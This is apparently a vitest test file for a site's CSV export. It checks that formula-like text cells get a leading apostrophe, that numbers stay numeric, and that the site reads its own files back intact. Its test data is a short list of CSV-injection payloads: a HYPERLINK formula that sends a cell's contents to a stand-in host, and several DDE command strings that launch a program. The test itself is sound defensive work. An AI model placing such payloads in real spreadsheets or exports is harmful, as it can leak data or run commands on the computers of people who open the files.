/**
 * Published CSVs open safely in a spreadsheet: a text cell that would run as a formula is
 * written with a leading apostrophe, numbers stay numbers, and the site reads its own files
 * back to the text as written (figures show `=HYPERLINK(…)` as text, not `'=HYPERLINK(…)`).
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "../../scripts/lib/csv-write.ts";
import { DatasetStore } from "../../src/figures/datasets.ts";
import type { FieldInfo } from "../../src/lib/manifest.ts";

const FIELDS: FieldInfo[] = [
  { name: "id", type: "string", label: "Id" },
  { name: "name", type: "string", label: "Name" },
  { name: "value", type: "number", label: "Value" },
  { name: "source", type: "list", label: "Sources" },
] as FieldInfo[];

const HOSTILE_TEXTS = [
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=already quoted",
];

const rows = HOSTILE_TEXTS.map((name, i) => ({ id: `row-${i}`, name, value: -i - 0.5, source: i === 0 ? ["=evil()", "b"] : ["a"] }));
const csv = toCsv(FIELDS, rows);
const cells = parse(csv, { columns: true }) as Record<string, string>[];

describe("published CSVs", () => {
  it("start every formula-like text cell with an apostrophe, so spreadsheets show it as text", () => {
    for (const [i, text] of HOSTILE_TEXTS.entries()) expect(cells[i]!.name).toBe(`'${text}`);
    expect(cells[0]!.source).toBe("'=evil();b");
    for (const c of cells) expect(c.name, "no cell starts a formula").not.toMatch(/^[=+\-@\t\r]/);
  });

  it("leave numbers as numbers: a negative value is not a formula, in a numeric column or as plain text", () => {
    expect(cells.map((c) => c.value)).toEqual(HOSTILE_TEXTS.map((_, i) => String(-i - 0.5)));
    const plain = parse(toCsv(FIELDS, [{ id: "-12", name: "-3.5", value: -40, source: ["+1e3"] }]), { columns: true })[0];
    expect(plain).toEqual({ id: "-12", name: "-3.5", value: "-40", source: "+1e3" });
    const text = parse(toCsv(FIELDS, [{ id: "a", name: "Gwanak-gu", value: 1, source: ["a"] }]), { columns: true });
    expect(text).toEqual([{ id: "a", name: "Gwanak-gu", value: "1", source: "a" }]);
  });

  it("read back by the site as the text that was written", () => {
    const dir = mkdtempSync(join(tmpdir(), "atlas-csv-"));
    try {
      writeFileSync(join(dir, "t.csv"), csv);
      const manifest = { datasets: { t: { name: "t", fields: FIELDS, files: { csv: { path: "t.csv" } } } } };
      writeFileSync(join(dir, "manifest.json"), JSON.stringify(manifest));
      const read = new DatasetStore(dir).get("t").rows;
      expect(read.map((r) => r.name)).toEqual(HOSTILE_TEXTS);
      expect(read[0]!.source).toEqual(["=evil()", "b"]);
      expect(read.map((r) => r.value)).toEqual(HOSTILE_TEXTS.map((_, i) => -i - 0.5));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
